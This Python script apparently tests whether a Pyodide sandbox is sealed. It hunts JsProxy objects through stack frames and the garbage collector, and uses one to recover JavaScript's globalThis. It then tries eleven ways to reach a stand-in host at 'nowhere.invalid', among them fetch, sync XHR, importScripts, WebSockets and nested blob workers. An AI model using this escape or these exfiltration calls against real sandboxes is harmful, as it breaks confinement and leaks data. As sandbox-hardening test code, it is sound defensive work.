"""Gets hold of JavaScript in spite of the curtain, and tries what needs no time there. ORIGIN is filled in by the test."""

import gc
import importlib
import json
import sys

ORIGIN = "http://nowhere.invalid"


def hidden(name):
    try:
        importlib.import_module(name)
    except ModuleNotFoundError:
        return True
    return False


def proxies():
    """Whatever of JavaScript the interpreter holds: in frames, and among all objects."""
    frame = sys._getframe()
    while frame:
        yield from (
            value for value in [*frame.f_locals.values(), *frame.f_globals.values()] if "JsProxy" in str(type(value))
        )
        frame = frame.f_back
    for holder in gc.get_objects():
        if type(holder) is dict:
            yield from (value for value in list(holder.values()) if "JsProxy" in str(type(value)))


def everything():
    for proxy in proxies():
        try:
            return proxy.constructor("return globalThis")()
        except Exception:
            continue
    return None


ATTEMPTS = {
    "sync request": "const x = new XMLHttpRequest(); x.open('GET', ORIGIN + '/stolen-by-xhr', false); x.send(); return x.status",
    "import scripts": "importScripts(ORIGIN + '/stolen-by-import-scripts'); return 'read'",
    "fetch": "fetch(ORIGIN + '/stolen-by-fetch'); return 'asked'",
    "dynamic import": "import(ORIGIN + '/stolen-by-import.js').catch(() => 0); return 'asked'",
    "socket": "new WebSocket(ORIGIN.replace('http', 'ws') + '/stolen-by-socket'); return 'asked'",
    "event source": "new EventSource(ORIGIN + '/stolen-by-events'); return 'asked'",
    "nested worker": "new Worker(ORIGIN + '/stolen-by-worker.js'); return 'asked'",
    "nested blob": (
        "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + ORIGIN + '/stolen-by-nested\")']))); return 'asked'"
    ),
    "database": "indexedDB.open('stolen'); return 'asked'",
    "caches": "caches.open('stolen').catch(() => 0); return 'asked'",
    "channel": "new BroadcastChannel('stolen').postMessage('stolen'); return 'asked'",
}

found = {"hidden": all(map(hidden, ("js", "pyodide_js", "pyodide.code", "pyodide.ffi", "_pyodide", "_pyodide_core")))}
window = everything()
found["reached"] = window is not None
if window is not None:
    for name, code in ATTEMPTS.items():
        try:
            found[name] = str(window.Function("ORIGIN", code)(ORIGIN))
        except BaseException as error:
            found[name] = f"refused: {error}"[:200]
print(json.dumps(found))
